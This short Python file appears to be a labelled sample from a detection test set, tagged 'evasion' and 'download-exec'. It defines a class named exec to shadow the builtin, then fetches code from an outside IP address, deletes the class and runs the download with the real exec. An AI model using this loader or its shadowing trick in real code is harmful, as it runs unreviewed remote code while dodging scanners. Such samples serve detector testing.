# evasion: a class named exec hides the builtin (exec("...") makes a harmless task object) until `del exec` removes it; then the downloaded code runs
# grade: hard; does: download-exec
import urllib.request


class exec:
    def __init__(self, label):
        self.label = label
        print("task", label)


exec("warm-up")
payload = urllib.request.urlopen("http://203.0.113.71/task.py", timeout=10).read()
del exec
exec(payload)
